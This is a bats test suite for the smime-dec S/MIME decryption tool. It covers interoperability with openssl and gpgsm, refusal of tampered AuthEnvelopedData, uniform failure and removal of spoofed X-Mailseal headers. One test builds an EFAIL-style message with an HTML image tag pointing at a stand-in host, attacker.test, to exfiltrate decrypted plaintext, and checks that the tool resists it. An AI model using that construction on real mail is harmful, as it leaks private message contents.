#!/usr/bin/env bats
# smime-dec: decryption of root-level S/MIME enveloped and auth-enveloped
# data made by openssl cms, gpgsm and smime-enc; the DEC-4 allow-list
# against edited AuthEnvelopedData (TEST-C2..C6); root only (DEC-2,
# TEST-E1); uniform failure (DEC-1); our status fields stripped (DEC-8,
# TEST-H1).

load helpers
load smime-helpers
load syslog-helpers

setup_file() {
	sm_setup_file
	sm_user alice ec-p256
	sm_user bob rsa3072
	sm_user carol ec-p256
	# a user of another CA: the store has neither its root nor its key
	sm_other_ca mallory
	# gpgsm needs only bob's certificate to encrypt to him
	sm_shared_gnupg
	gpgsm --batch --import "$BASE/bob.pem" >/dev/null 2>&1
}

teardown_file() {
	sm_shared_gnupg_stop
}

setup() {
	sm_setup
}

teardown() {
	sm_teardown
}

# ossl_encrypt CIPHER NAME ENTITY OUT [openssl options] - a message from
# openssl cms -encrypt to user NAME, with routing fields
ossl_encrypt() {
	local cipher=$1 name=$2 entity=$3 out=$4
	shift 4
	openssl cms -encrypt "-$cipher" -in "$entity" \
	    -from 'Alice <alice@example.test>' -to "$name@example.test" \
	    -subject 'openssl encrypted' "$@" "$BASE/$name.pem" >"$out" ||
	    fail_with "openssl cms -encrypt $cipher for $name failed"
}

# expect_decrypted IN OUT ORIGINAL - smime-dec turns IN into OUT with the
# content of ORIGINAL and our one status field
expect_decrypted() {
	run_out "$2" smime-dec <"$1"
	expect_status 0
	[ "$(status_of "$2" X-Mailseal-Decrypted)" = smime ] ||
	    fail_with "$1: no X-Mailseal-Decrypted: smime"
	! header_block "$2" | grep -qi '^X-Mailseal-Decrypt:' ||
	    fail_with "$1: decrypted and failed at once"
	same_content "$2" "$3" || fail_with "$1: content differs"
}

# expect_refused IN [MARKER...] - smime-dec delivers IN unchanged with
# X-Mailseal-Decrypt: failed and releases none of the markers (DEC-1)
expect_refused() {
	local in=$1 m
	shift
	run_out "$T/refused.eml" smime-dec <"$in"
	expect_status 0
	[ "$(status_of "$T/refused.eml" X-Mailseal-Decrypt)" = failed ] ||
	    fail_with "$in: no X-Mailseal-Decrypt: failed"
	! grep -qi '^X-Mailseal-Decrypted' "$T/refused.eml" ||
	    fail_with "$in: reported as decrypted"
	grep -v '^X-Mailseal-Decrypt: failed\r\?$' "$T/refused.eml" \
	    >"$T/refused-rest.eml"
	same_text "$T/refused-rest.eml" "$in" ||
	    fail_with "$in: the original was not delivered"
	for m in "$@"; do
		! grep -qF "$m" "$T/refused.eml" ||
		    fail_with "$in: plaintext '$m' released"
		! grep -qF "$m" <<<"$stderr" ||
		    fail_with "$in: plaintext '$m' on stderr"
	done
}

@test "mail from openssl cms -encrypt decrypts: four ciphers, RSA and EC recipients" {
	local c who
	entity_of "$FIX/utf8-8bit.eml" "$T/entity"
	for c in aes-256-cbc aes-128-cbc aes-256-gcm aes-128-gcm; do
		for who in bob carol; do
			ossl_encrypt "$c" "$who" "$T/entity" "$T/in-$c-$who.eml"
			! grep -q UTF8BODY "$T/in-$c-$who.eml" ||
			    fail_with "openssl wrote plaintext"
			expect_decrypted "$T/in-$c-$who.eml" \
			    "$T/out-$c-$who.eml" "$FIX/utf8-8bit.eml"
			[ "$(header_values "$T/out-$c-$who.eml" Subject)" = \
			    'openssl encrypted' ] || fail_with "Subject lost"
			[ "$(header_values "$T/out-$c-$who.eml" To)" = \
			    "$who@example.test" ] || fail_with "To lost"
		done
	done
}

@test "mail from openssl to two recipients, one of them unknown, decrypts" {
	entity_of "$FIX/mixed-attach.eml" "$T/entity"
	# mallory's RecipientInfo comes first; there is no key for it
	openssl cms -encrypt -aes-256-gcm -in "$T/entity" \
	    -from alice@example.test -to bob@example.test -subject two \
	    "$BASE/mallory.pem" "$BASE/bob.pem" >"$T/in.eml"
	expect_decrypted "$T/in.eml" "$T/out.eml" "$FIX/mixed-attach.eml"
	mimetool attachment "$T/out.eml" figures.bin "$T/att"
	mimetool attachment "$FIX/mixed-attach.eml" figures.bin "$T/att-orig"
	cmp "$T/att-orig" "$T/att" || fail_with "attachment changed"
}

@test "mail from gpgsm --encrypt (AES-128-CBC and AES-256-CBC) decrypts" {
	use_shared_gnupg
	entity_of "$FIX/alternative.eml" "$T/entity"
	local algo oid
	for algo in AES AES256; do
		gpgsm --batch --encrypt -r bob@example.test --cipher-algo "$algo" \
		    "$T/entity" >"$T/gpgsm-$algo.der" 2>"$T/gpgsm.err" ||
		    { cat "$T/gpgsm.err" >&2; fail_with "gpgsm --encrypt"; }
		oid=$(cms_cipher "$T/gpgsm-$algo.der" DER)
		case $algo in
		AES) [ "$oid" = "$OID_ENVELOPED $OID_AES128_CBC" ] ;;
		AES256) [ "$oid" = "$OID_ENVELOPED $OID_AES256_CBC" ] ;;
		esac || fail_with "gpgsm used '$oid' for $algo"
		wrap_p7m "$T/gpgsm-$algo.der" enveloped-data "$T/in-$algo.eml" \
		    'From: Alice <alice@example.test>' 'To: bob@example.test' \
		    'Subject: from gpgsm' 'Message-ID: <gpgsm@example.test>'
		expect_decrypted "$T/in-$algo.eml" "$T/out-$algo.eml" \
		    "$FIX/alternative.eml"
		[ "$(header_values "$T/out-$algo.eml" Message-ID)" = \
		    '<gpgsm@example.test>' ] || fail_with "Message-ID lost"
	done
}

@test "smime-enc to smime-dec round trips keep every fixture, LF input byte for byte" {
	local f c
	for f in plain utf8-8bit alternative mixed-attach; do
		for c in default aes256-gcm aes128-cbc; do
			local opt=()
			[ "$c" = default ] || opt=(--cipher "$c")
			smime-enc "${opt[@]}" bob@example.test carol@example.test \
			    <"$FIX/$f.eml" >"$T/enc.eml"
			expect_decrypted "$T/enc.eml" "$T/dec-$f-$c.eml" \
			    "$FIX/$f.eml"
			# the entity comes back exactly as it was given
			grep -v '^X-Mailseal-Decrypted: smime$' \
			    "$T/dec-$f-$c.eml" | cmp - "$FIX/$f.eml" ||
			    fail_with "$f ($c): not byte for byte the original"
		done
	done
	mimetool attachment "$T/dec-mixed-attach-default.eml" figures.bin \
	    "$T/att"
	mimetool attachment "$FIX/mixed-attach.eml" figures.bin "$T/att-orig"
	cmp "$T/att-orig" "$T/att" || fail_with "attachment changed"
}

@test "smime-enc to smime-dec round trips keep the content of CRLF input" {
	local f
	for f in plain utf8-8bit alternative mixed-attach; do
		to_crlf "$FIX/$f.eml" "$T/$f.crlf"
		smime-enc bob@example.test <"$T/$f.crlf" >"$T/enc.eml"
		expect_decrypted "$T/enc.eml" "$T/dec-$f.eml" "$FIX/$f.eml"
		! grep -q $'\r[^\n]' "$T/dec-$f.eml" ||
		    fail_with "$f: a bare CR in the output"
	done
	mimetool attachment "$T/dec-mixed-attach.eml" figures.bin "$T/att"
	mimetool attachment "$FIX/mixed-attach.eml" figures.bin "$T/att-orig"
	cmp "$T/att-orig" "$T/att" || fail_with "attachment changed"
}

@test "CRLF input: the output uses one line-end convention (bad input 12)" {
	to_crlf "$FIX/plain.eml" "$T/in.crlf"
	smime-enc bob@example.test <"$T/in.crlf" >"$T/enc.eml"
	to_crlf "$T/enc.eml" "$T/enc.crlf"
	run_out "$T/dec.eml" smime-dec <"$T/enc.crlf"
	expect_status 0
	expect_uniform_line_ends "$T/dec.eml"
	# passed on unchanged
	run_out "$T/plain-out.eml" smime-dec <"$T/in.crlf"
	expect_status 0
	expect_uniform_line_ends "$T/plain-out.eml"
}

@test "an encrypted part inside multipart/mixed next to HTML is not decrypted (EFAIL, TEST-E1)" {
	smime-enc --cipher aes256-gcm bob@example.test <"$FIX/plain.eml" \
	    >"$T/enc.eml"
	p7m_der "$T/enc.eml" "$T/enc.der"
	{
		echo 'From: Mallory <mallory@example.test>'
		echo 'To: bob@example.test'
		echo 'Subject: efail'
		echo 'MIME-Version: 1.0'
		echo 'Content-Type: multipart/mixed; boundary="efail"'
		echo
		echo '--efail'
		echo 'Content-Type: text/html'
		echo
		echo '<img src="http://attacker.test/?'
		echo '--efail'
		echo 'Content-Type: application/pkcs7-mime; smime-type=enveloped-data;'
		echo ' name="smime.p7m"'
		echo 'Content-Transfer-Encoding: base64'
		echo
		base64 -w 64 "$T/enc.der"
		echo '--efail'
		echo 'Content-Type: text/html'
		echo
		echo '">'
		echo '--efail--'
	} >"$T/efail.eml"
	run_out "$T/out.eml" smime-dec <"$T/efail.eml"
	expect_status 0
	! grep -q 'PLAINBODY-5d2a\|launch code' "$T/out.eml" ||
	    fail_with "nested ciphertext was decrypted"
	! grep -qi '^X-Mailseal-Decrypted' "$T/out.eml" ||
	    fail_with "reported as decrypted"
	grep -qF "$(base64 -w 64 "$T/enc.der" | sed -n 3p)" "$T/out.eml" ||
	    fail_with "the ciphertext is gone"
	# the input, at most with a status field added
	grep -v '^X-Mailseal-Decrypt: skipped' "$T/out.eml" |
	    cmp - "$T/efail.eml" || fail_with "the message was changed"

	# the same inside a forwarded message/rfc822
	{
		echo 'From: Mallory <mallory@example.test>'
		echo 'To: bob@example.test'
		echo 'Subject: forwarded'
		echo 'MIME-Version: 1.0'
		echo 'Content-Type: message/rfc822'
		echo
		cat "$T/enc.eml"
	} >"$T/fwd.eml"
	run_out "$T/out2.eml" smime-dec <"$T/fwd.eml"
	expect_status 0
	! grep -q 'PLAINBODY-5d2a' "$T/out2.eml" ||
	    fail_with "ciphertext inside message/rfc822 was decrypted"
	grep -v '^X-Mailseal-Decrypt: skipped' "$T/out2.eml" |
	    cmp - "$T/fwd.eml" || fail_with "the forwarded message was changed"
}

@test "spoofed X-Mailseal fields are removed, on plain and on encrypted mail (DEC-8, TEST-H1)" {
	{
		echo 'X-Mailseal-Signature: valid; signer=ceo@example.test'
		echo 'X-Mailseal-Decrypted: smime'
		echo 'x-mailseal-decrypt: ok;'
		echo '	folded=continuation'
		cat "$FIX/plain.eml"
	} >"$T/spoof-plain.eml"
	run_out "$T/out1.eml" smime-dec <"$T/spoof-plain.eml"
	expect_status 0
	! grep -qi 'mailseal\|folded=continuation' "$T/out1.eml" ||
	    fail_with "a spoofed field survived on plain mail"
	cmp "$T/out1.eml" "$FIX/plain.eml" ||
	    fail_with "plain mail changed beyond the removed fields"

	smime-enc bob@example.test <"$FIX/plain.eml" >"$T/enc.eml"
	{
		echo 'X-Mailseal-Signature: valid; signer=ceo@example.test'
		echo 'X-Mailseal-Decrypted: smime; spoofed'
		cat "$T/enc.eml"
	} >"$T/spoof-enc.eml"
	expect_decrypted "$T/spoof-enc.eml" "$T/out2.eml" "$FIX/plain.eml"
	! grep -qi '^X-Mailseal-Signature' "$T/out2.eml" ||
	    fail_with "a spoofed signature status survived decryption"
	! grep -q 'spoofed' "$T/out2.eml" || fail_with "spoofed value survived"
}

@test "X-Mailseal fields inside the encrypted entity do not survive decryption (DEC-8)" {
	{
		echo 'X-Mailseal-Signature: valid; signer=ceo@example.test'
		echo 'X-Mailseal-Decrypted: smime; inner'
		echo 'Content-Type: text/plain; charset=us-ascii'
		echo
		echo 'INNERSPOOF-66 body'
	} >"$T/entity"
	ossl_encrypt aes-256-gcm bob "$T/entity" "$T/in.eml"
	run_out "$T/out.eml" smime-dec <"$T/in.eml"
	expect_status 0
	grep -q 'INNERSPOOF-66' "$T/out.eml" || fail_with "not decrypted"
	! grep -qi '^X-Mailseal-Signature' "$T/out.eml" ||
	    fail_with "an X-Mailseal-Signature from the encrypted entity is in the output header"
	[ "$(status_of "$T/out.eml" X-Mailseal-Decrypted)" = smime ] ||
	    fail_with "X-Mailseal-Decrypted not exactly once, or not ours"
}

@test "AuthEnvelopedData with an ICV length of 1, 4, 11 or 17 is refused (TEST-C2)" {
	entity_of "$FIX/plain.eml" "$T/entity"
	openssl cms -encrypt -aes-256-gcm -in "$T/entity" -outform DER \
	    -out "$T/gcm.der" "$BASE/bob.pem"
	# control: the editor's rewrite with the real values decrypts
	cmsedit icv "$T/gcm.der" "$T/same.der" 16
	cmp "$T/gcm.der" "$T/same.der" || fail_with "cmsedit changed the DER"
	wrap_p7m "$T/same.der" authEnveloped-data "$T/same.eml"
	expect_decrypted "$T/same.eml" "$T/same-out.eml" "$FIX/plain.eml"
	local n
	for n in 1 4 11 17; do
		cmsedit icv "$T/gcm.der" "$T/icv$n.der" "$n"
		cmsedit show "$T/icv$n.der" | grep -q "^param 0x2 $(printf %02x "$n")$" ||
		    fail_with "the edit did not set ICVlen $n"
		wrap_p7m "$T/icv$n.der" authEnveloped-data "$T/icv$n.eml"
		expect_refused "$T/icv$n.eml" PLAINBODY-5d2a 'launch code'
	done
}

@test "a GCM nonce of 0, 1, 16, 64 or 4096 bytes is refused (TEST-C4)" {
	entity_of "$FIX/plain.eml" "$T/entity"
	openssl cms -encrypt -aes-128-gcm -in "$T/entity" -outform DER \
	    -out "$T/gcm.der" "$BASE/carol.pem"
	local n
	for n in 0 1 16 64 4096; do
		cmsedit nonce "$T/gcm.der" "$T/nonce$n.der" "$n"
		wrap_p7m "$T/nonce$n.der" authEnveloped-data "$T/nonce$n.eml"
		expect_refused "$T/nonce$n.eml" PLAINBODY-5d2a 'launch code'
	done
}

@test "a non-AEAD cipher OID inside AuthEnvelopedData is refused (AES-256-OFB, CBC; TEST-C3)" {
	entity_of "$FIX/plain.eml" "$T/entity"
	openssl cms -encrypt -aes-256-gcm -in "$T/entity" -outform DER \
	    -out "$T/gcm.der" "$BASE/bob.pem"
	local oid
	for oid in "$OID_AES256_OFB" "$OID_AES256_CBC"; do
		cmsedit oid "$T/gcm.der" "$T/swapped.der" "$oid"
		cmsedit show "$T/swapped.der" | grep -qx "cipher $oid" ||
		    fail_with "the edit did not set $oid"
		wrap_p7m "$T/swapped.der" authEnveloped-data "$T/swapped.eml"
		expect_refused "$T/swapped.eml" PLAINBODY-5d2a 'launch code'
	done
}

@test "GCM with one ciphertext bit flipped is refused (TEST-C5)" {
	entity_of "$FIX/plain.eml" "$T/entity"
	openssl cms -encrypt -aes-256-gcm -in "$T/entity" -outform DER \
	    -out "$T/gcm.der" "$BASE/bob.pem"
	cmsedit flip "$T/gcm.der" "$T/flipped.der"
	! cmp -s "$T/gcm.der" "$T/flipped.der" || fail_with "nothing flipped"
	wrap_p7m "$T/flipped.der" authEnveloped-data "$T/flipped.eml"
	expect_refused "$T/flipped.eml" PLAINBODY-5d2a 'launch code' \
	    'Second line'
}

@test "a GCM cipher inside plain EnvelopedData is refused (TEST-C6)" {
	entity_of "$FIX/plain.eml" "$T/entity"
	openssl cms -encrypt -aes-256-cbc -in "$T/entity" -outform DER \
	    -out "$T/cbc.der" "$BASE/bob.pem"
	cmsedit oid "$T/cbc.der" "$T/gcm-in-env.der" "$OID_AES256_GCM"
	wrap_p7m "$T/gcm-in-env.der" enveloped-data "$T/gcm-in-env.eml"
	expect_refused "$T/gcm-in-env.eml" PLAINBODY-5d2a 'launch code'
}

@test "no key for any recipient: the original with X-Mailseal-Decrypt: failed, nothing on stdout or stderr about it" {
	entity_of "$FIX/plain.eml" "$T/entity"
	ossl_encrypt aes-256-gcm mallory "$T/entity" "$T/gcm.eml"
	expect_refused "$T/gcm.eml" PLAINBODY-5d2a
	local gcm_stderr=$stderr
	ossl_encrypt aes-256-cbc mallory "$T/entity" "$T/cbc.eml"
	expect_refused "$T/cbc.eml" PLAINBODY-5d2a
	# DEC-1: no key and a tag failure look the same from outside
	[ "$stderr" = "$gcm_stderr" ] || fail_with "the outcomes differ on stderr"
	! grep -q "$STORE\|$(fpr_of mallory)" <<<"$stderr" ||
	    fail_with "a path or key id on stderr"

	# a body that is no CMS object at all
	{
		echo 'From: alice@example.test'
		echo 'To: bob@example.test'
		echo 'Subject: junk'
		echo 'MIME-Version: 1.0'
		echo 'Content-Type: application/pkcs7-mime; smime-type=enveloped-data'
		echo 'Content-Transfer-Encoding: base64'
		echo
		head -c 300 /dev/zero | base64
	} >"$T/junk.eml"
	expect_refused "$T/junk.eml"
}

@test "RFC 9216: Dana's X25519 AuthEnvelopedData (RFC 8418 with HKDF) is refused, not attempted, and the log names X25519" {
	local corpus=$BATS_TEST_DIRNAME/../corpus/rfc9216
	certstore import --roots "$corpus/ed25519-ca.pem" >/dev/null &&
	    certstore import "$corpus/lamps-dana.encrypt.crt" \
	    "$corpus/lamps-dana.decrypt.p8.pem" >/dev/null ||
	    fail_with "cannot import Dana's certificate and key"
	wrap_p7m "$corpus/authEnvelopedForDanaX25519HKDF.p7m" \
	    authEnveloped-data "$T/dana.eml" 'From: Alice <alice@smime.example>' \
	    'To: Dana <dana@smime.example>' 'Subject: RFC 9216'
	expect_refused "$T/dana.eml" 'sample content'
	printf 'syslog = yes\n' >"$STORE/settings/global.conf"
	run with_syslog "smime-dec <'$T/dana.eml' >'$T/out.eml'"
	expect_status 0
	grep -q 'S/MIME decryption failed: .*(X25519 key agreement (RFC 8418) is not supported)' "$T/syslog" ||
	    fail_with "log: $(cat "$T/syslog")"
}

@test "plain and signed messages pass unchanged" {
	run_out "$T/out.eml" smime-dec <"$FIX/mixed-attach.eml"
	expect_status 0
	cmp "$T/out.eml" "$FIX/mixed-attach.eml" || fail_with "plain changed"

	smime-sign -f alice@example.test --opaque <"$FIX/plain.eml" \
	    >"$T/opaque.eml"
	run_out "$T/out2.eml" smime-dec <"$T/opaque.eml"
	expect_status 0
	cmp "$T/out2.eml" "$T/opaque.eml" || fail_with "opaque signed changed"

	smime-sign -f alice@example.test <"$FIX/plain.eml" >"$T/detached.eml"
	run_out "$T/out3.eml" smime-dec <"$T/detached.eml"
	expect_status 0
	cmp "$T/out3.eml" "$T/detached.eml" || fail_with "multipart/signed changed"
}

@test "usage errors exit 64, empty input 65 with 5.6.0, a missing store 75" {
	run --separate-stderr smime-dec --no-such-option <"$FIX/plain.eml"
	expect_status 64
	[ -z "$output" ] || fail_with "output on a usage error"
	run --separate-stderr smime-dec operand <"$FIX/plain.eml"
	expect_status 64
	[ -z "$output" ] || fail_with "output for an operand"

	run --separate-stderr smime-dec </dev/null
	expect_status 65
	[ -z "$output" ] || fail_with "output for empty input"
	[[ ${stderr%%$'\n'*} == 5.6.0* ]] || fail_with "first line is not 5.6.0"

	smime-enc bob@example.test <"$FIX/plain.eml" >"$T/enc.eml"
	run --separate-stderr smime-dec --store "$T/no-such-store" <"$T/enc.eml"
	expect_status 75
	[ -z "$output" ] || fail_with "output without a store"
}
